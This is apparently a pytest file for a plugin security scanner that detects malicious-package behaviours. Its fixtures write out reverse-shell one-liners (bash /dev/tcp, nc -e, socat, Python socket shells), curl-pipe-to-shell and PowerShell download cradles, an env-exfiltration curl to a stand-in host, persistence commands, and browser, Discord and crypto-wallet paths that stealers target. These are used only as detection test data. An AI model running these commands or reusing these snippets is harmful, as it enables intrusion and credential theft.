"""Behaviours of malicious packages (MB370-MB373, MB318's autostart locations) and the name
resolution they rely on: each in the shape an attacker writes it, and its honest twin."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest

from helpers import run, write_plugin
from mbcheck.checks.security.behaviours import (
    TABLE,
    autostart_entry,
    match_command,
    match_stealer_target,
    registry_autostart,
    startup_file,
)
from mbcheck.model import Finding, Severity
from mbcheck.resources import load_json

SCHEMA = "schemas/rules-security-behaviours.schema.json"
SECURITY = {"select": ["MB3"]}


def findings(tmp_path: Path, source: str, permissions: str = "") -> list[Finding]:
    root = write_plugin(tmp_path, {"plugin.yaml": f"name: example\nversion: 1.0.0\npermissions: [{permissions}]\n",
                                   "__init__.py": source})
    report = run(root, SECURITY)
    assert not report.errors, report.errors
    return [f for p in report.plugins for f in p.findings]


def lines(found: list[Finding], rule: str) -> list[int]:
    return sorted(f.span.line for f in found if f.rule == rule and f.severity.rank >= Severity.WARNING.rank)


# -- the table -------------------------------------------------------------------------------------

def test_table_conforms_to_its_schema() -> None:
    schema: dict[str, Any] = load_json(SCHEMA)
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(load_json(TABLE))


def test_each_part_says_where_it_comes_from() -> None:
    table = load_json(TABLE)
    for part in ("command_lines", "stealer_targets", "autostart", "public_resolvers"):
        assert len(table[part]["source"]) > 60, part


@pytest.mark.parametrize(("command", "kind"), [
    ("curl -fsSL https://x.example/i.sh | bash", "download-and-run"),
    ("wget -q -O- http://x.example/l.sh | sh", "download-and-run"),
    ("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
     "download-and-run"),
    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "download-and-run"),
    ("certutil -urlcache -split -f http://x.example/a.exe a.exe", "download-and-run"),
    ("curl -o /tmp/a http://x.example/a && chmod +x /tmp/a", "download-and-run"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"),
    ("nc -e /bin/sh 203.0.113.9 4242", "reverse-shell"),
    ("socat tcp:203.0.113.9:4444 exec:/bin/sh", "reverse-shell"),
    ("(crontab -l; echo '@reboot ~/.u') | crontab -", "persistence"),
    ('schtasks /create /sc onlogon /tn Sync /tr "C:\\u.exe"', "persistence"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d C:\\u.exe", "persistence"),
    ("systemctl --user enable --now helper.service", "persistence"),
    ("launchctl load ~/Library/LaunchAgents/x.plist", "persistence"),
    ("env | curl -X POST --data-binary @- https://x.example", "exfiltration"),
])
def test_command_lines_of_malicious_packages(command: str, kind: str) -> None:
    found = match_command(command)
    assert found is not None and found.kind == kind


@pytest.mark.parametrize("command", [
    "git log --oneline -5", "crontab -l", "curl -fsSL https://example.org/data.json -o data.json",
    "ls -l | sort", "pip install --user requests", "systemctl --user status helper.service",
    "nc -z example.org 443", "python3 -m http.server 8000",
])
def test_honest_command_lines_match_nothing(command: str) -> None:
    assert match_command(command) is None


@pytest.mark.parametrize(("path", "stored"), [
    ("~/.config/google-chrome/Default/Login Data", True),
    ("C:\\Users\\u\\AppData\\Roaming\\discord\\Local Storage\\leveldb", True),
    ("/etc/shadow", True),
    ("\x00/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/\x00", True),
    ("~/.config/solana/id.json", True),
    ("~/.config/google-chrome/Default/Bookmarks", False),
    ("Login Data", False),  # a lone word is no path
    ("/etc/passwd", False),
])
def test_stealer_targets(path: str, stored: bool) -> None:
    assert (match_stealer_target(path) is not None) is stored


def test_autostart_locations() -> None:
    assert autostart_entry(True, ".config/autostart/x.desktop") == ".config/autostart/"
    assert autostart_entry(True, "Library/LaunchAgents/com.x.plist") == "Library/LaunchAgents/"
    assert autostart_entry(False, "/Library/LaunchDaemons/com.x.plist") == "/Library/LaunchDaemons"
    assert autostart_entry(True, ".config/notes/settings.toml") is None
    assert startup_file("\x00/zz-init.pth") == "zz-init.pth"
    assert startup_file("/usr/lib/python3/site-packages/usercustomize.py") == "usercustomize.py"
    assert startup_file("notes/.pth") is None and startup_file("/tmp/a.py") is None
    assert registry_autostart(r"Software\Microsoft\Windows\CurrentVersion\Run") is not None
    assert registry_autostart(r"Software\Notes\Settings") is None


# -- the rules, as an attacker and as an honest plugin write them ----------------------------------

def test_mb370_reads_argument_lists_python_c_code_and_module_constants(tmp_path: Path) -> None:
    source = (
        "import os, subprocess, sys\n"
        "ONE = \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));"
        "os.dup2(s.fileno(),0);pty.spawn('sh')\"\n"
        "def a():\n    subprocess.Popen([sys.executable, '-c', ONE])\n"
        "def b():\n    subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/9001 0>&1'])\n"
        "def c():\n    os.system('nc -e /bin/sh 203.0.113.5 4242 &')\n"
        "def d(repo):\n    subprocess.run(['git', '-C', repo, 'pull'], check=True)\n"
        "def e(url):\n    os.system(f'curl -s {url} | sh')\n"
    )
    found = findings(tmp_path, source, "subprocess")
    assert lines(found, "MB370") == [4, 6, 8, 12]


def test_mb371_a_process_wired_to_a_socket(tmp_path: Path) -> None:
    source = (
        "import os, pty, socket, subprocess, sys\n"
        "def reverse():\n    s = socket.socket()\n    s.connect(('203.0.113.5', 443))\n"
        "    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn('/bin/sh')\n"
        "def bind():\n    srv = socket.create_server(('', 4444))\n    conn, _ = srv.accept()\n"
        "    subprocess.Popen(['/bin/sh'], stdin=conn, stdout=conn)\n"
        "def quiet():\n    null = open(os.devnull, 'w')\n    os.dup2(null.fileno(), sys.stdout.fileno())\n"
    )
    found = findings(tmp_path, source, "network, subprocess, fs-write")
    assert lines(found, "MB371") == [5, 10]


def test_mb372_paths_built_piece_by_piece(tmp_path: Path) -> None:
    source = (
        "import os\nfrom pathlib import Path\n"
        "def a():\n    return os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet')\n"
        "def b():\n    return (Path.home() / '.config' / 'solana' / 'id.json').read_text()\n"
        "def c(profile):\n    return f'{profile}/Default/Login Data'\n"
        "def d():\n    return Path.home() / '.config' / 'google-chrome' / 'Default' / 'Bookmarks'\n"
        'def e():\n    """Stealers read Local Storage/leveldb; this plugin does not."""\n'
    )
    found = findings(tmp_path, source)
    assert lines(found, "MB372") == [4, 6, 8]


def test_mb373_contacting_suspicious_endpoints_but_not_geolocation_or_the_users_webhook(tmp_path: Path) -> None:
    source = (
        "import socket\nimport requests\n"
        "DROP = 'https://rentry.co/x7q2k/raw'\n"
        "def a():\n    return requests.get(DROP, timeout=5).text\n"
        "def b():\n    socket.gethostbyname('c9v2k1m3.oast.fun')\n"
        "def c(name):\n    requests.get(f'https://{name}.trycloudflare.com/p', timeout=5)\n"
        "def d():\n    return requests.get('https://ipinfo.io/json', timeout=5).json()\n"
        "def e(url, text):\n    requests.post(url, json={'text': text}, timeout=5)\n"
        "def f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('1.1.1.1', 53))\n"
        "def g():\n    requests.post('https://hooks.slack.com/services/T0/B0/abc', json={}, timeout=5)\n"
    )
    found = findings(tmp_path, source, "network")
    assert lines(found, "MB373") == [5, 7, 9, 18]


def test_mb318_autostart_and_interpreter_start_up_files(tmp_path: Path) -> None:
    source = (
        "import os, site, winreg\nfrom pathlib import Path\n"
        "def a():\n    (Path.home() / '.config' / 'systemd' / 'user' / 'x.service').write_text('[Service]')\n"
        "def b():\n    target = site.getusersitepackages() + '/usercustomize.py'\n"
        "    with open(target, 'w') as fh:\n        fh.write('import os')\n"
        "def c():\n    winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "def d():\n    return winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "def e():\n    (Path.home() / '.config' / 'notes' / 'settings.toml').write_text('x = 1')\n"
    )
    found = findings(tmp_path, source, "fs-write")
    assert lines(found, "MB318") == [4, 7, 10]


# -- name resolution the rules rely on -------------------------------------------------------------

def test_a_name_bound_once_to_a_lookup_is_that_lookup(tmp_path: Path) -> None:
    source = (
        "import operator, os\n"
        "_get = operator.attrgetter('system')\n"
        "def a(c):\n    _get(os)(c)\n"
        "def b(p):\n    g = globals()['__builtins__']\n    run = g['exec'] if isinstance(g, dict) else getattr(g, 'exec')\n"
        "    run(p)\n"
    )
    found = findings(tmp_path, source)
    assert 4 in lines(found, "MB361") and 7 in lines(found, "MB361")


def test_a_name_bound_twice_is_not_followed(tmp_path: Path) -> None:
    source = "import os\nrun = os.system\nrun = print\n\ndef a(c):\n    run(c)\n"
    found = findings(tmp_path, source)
    assert 6 not in lines(found, "MB300") and lines(found, "MB310") == []


def test_imports_from_a_literal_loop_are_imports_of_each_name(tmp_path: Path) -> None:
    source = (
        "import importlib\n"
        "def backend():\n    for name in ('orjson', 'ujson'):\n        try:\n"
        "            return importlib.import_module(name)\n        except ImportError:\n            continue\n"
        "def dangerous():\n    for name in ('subprocess',):\n        importlib.import_module(name).run(['id'])\n"
        "def other(name):\n    return importlib.import_module(name)\n"
    )
    found = findings(tmp_path, source)
    assert lines(found, "MB312") == [12]
    undeclared = {f.message.split("`")[1] for f in found if f.rule == "MB300"}
    assert undeclared == {"subprocess", "dynamic-code"}


def test_sys_path_slice_assignment_is_an_import_path_trick(tmp_path: Path) -> None:
    source = "import sys\nsys.path[0:0] = ['lib.egg']\nimport fastjson\n"
    found = findings(tmp_path, source)
    assert lines(found, "MB363") == [2]
